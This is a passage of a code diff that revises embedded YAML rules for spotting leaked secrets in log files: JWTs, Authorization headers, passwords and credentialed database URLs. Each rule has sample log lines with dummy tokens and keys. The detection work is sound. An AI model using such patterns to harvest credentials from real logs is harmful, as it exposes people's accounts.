             - '2026-11-23 06:50:48,123 DEBUG [chat] [-] posting with xoxb-0123456789-abcdefghij'
           miss:
+            - '2026-11-23 06:50:48,123 DEBUG [s3] [-] signing with AKIA****'
+            - '2026-11-23 06:50:48,123 DEBUG [s3] [-] part XAKIAIOSFODNN7EXAMPLEXX stored'
             - '2026-11-23 06:50:48,123 DEBUG [ci] [-] cloning with ghp_***'
 
       - id: secret-private-key
@@ -1657,36 +1883,26 @@ package enum EmbeddedPacks {
           miss:
             - '2026-11-23 06:50:48,123 DEBUG [tls] [-] key=-----BEGIN PUBLIC KEY-----'
 
-      - id: secret-jwt
-        title: A JSON web token in the log
-        description: Until it expires it is as good as the password of whoever it belongs to.
-        severity: P2
-        status: stable
-        on: line
-        pattern: '\beyJ[0-9A-Za-z_-]{10,}\.eyJ[0-9A-Za-z_-]{10,}\.[0-9A-Za-z_-]{10,}'
-        secret: true
-        tags: [security, secret]
-        samples:
-          hit:
-            - >-
-              2026-11-23 06:50:48,123 DEBUG [auth] [-]
-              token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ0ZXN0In0.c2lnbmF0dXJlLWZvci10ZXN0
-          miss:
-            - '2026-11-23 06:50:48,123 DEBUG [auth] [-] token eyJhbGciOiJIUzI1NiJ9 has one part'
-
-      - id: secret-authorization
+      - id: secret-credentials
         title: Credentials of a request in the log
+        description: A JSON web token or an Authorization header. Until it expires it is as good as a password.
         severity: P2
         status: stable
         on: line
-        pattern: '(?i)\bauthorization["'']?\s*[:=]\s*["'']?(?:bearer|basic|token)\s+(?!\*|<|\[|x{4}|redacted)[0-9A-Za-z._~+/=-]{8,}'
+        pattern: >-
+          (?xi) \beyJ[0-9a-z_-]{10,}\.eyJ[0-9a-z_-]{10,}\.[0-9a-z_-]{10,} |
+          \bauthorization["']? \s*[:=]\s* ["']? (?:bearer|basic|token) \s+ (?!\*|<|\[|x{4}|redacted) [0-9a-z._~+/=-]{8,}
         secret: true
         tags: [security, secret]
         samples:
           hit:
             - '2026-11-23 06:50:48,123 DEBUG [client] [-] sent Authorization: Bearer 0a1b2c3d4e5f60718293'
+            - >-
+              2026-11-23 06:50:48,123 DEBUG [auth] [-]
+              token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ0ZXN0In0.c2lnbmF0dXJlLWZvci10ZXN0
           miss:
             - '2026-11-23 06:50:48,123 DEBUG [client] [-] sent Authorization: Bearer ****************'
+            - '2026-11-23 06:50:48,123 DEBUG [auth] [-] token eyJhbGciOiJIUzI1NiJ9 has one part'
 
       - id: secret-password
         title: A password in the log
@@ -1694,7 +1910,8 @@ package enum EmbeddedPacks {
         status: stable
         on: line
         pattern: >-
-          (?i)\b(?:password|passwd|pwd|secret[_-]?key|client[_-]secret|api[_-]?key)["']?\s*[:=]\s*["']?(?!\*|<|\[|\{|x{4}|redacted|null\b|none\b|true\b|false\b|required|invalid|missing)[^\s"',;&*]{6,}
+          (?xi) \b(?:password|passwd|pwd|secret[_-]?key|client[_-]secret|api[_-]?key) ["']? \s*[:=]\s* ["']?
+          (?!\*|<|\[|\{|x{4}|redacted|null\b|none\b|true\b|false\b|required|invalid|missing) [^\s"',;&*]{6,}
         secret: true
         tags: [security, secret]
         falsepositives: ['code and configuration names in tracebacks (password=settings.password)']
@@ -1711,7 +1928,8 @@ package enum EmbeddedPacks {
         severity: P1
         status: stable
         pattern: >-
-          (?i)\b(?:postgres(?:ql)?|mysql|mariadb|mongodb|rediss?|amqps?|https?|ftp)(?:\+\w+)?://[^\s:/@]{0,64}:(?!\*|<|\[|\$\{|xxx|redacted)[^\s:/@]{3,128}@[\w.-]+
+          (?xi) \b(?:postgres(?:ql)?|mysql|mariadb|mongodb|rediss?|amqps?|https?|ftp)(?:\+\w+)?:// [^\s:/@]{0,64} :
+          (?!\*|<|\[|\$\{|xxx|redacted) [^\s:/@]{3,128} @ [\w.-]+
         secret: true
         tags: [security, secret, database]
         samples:
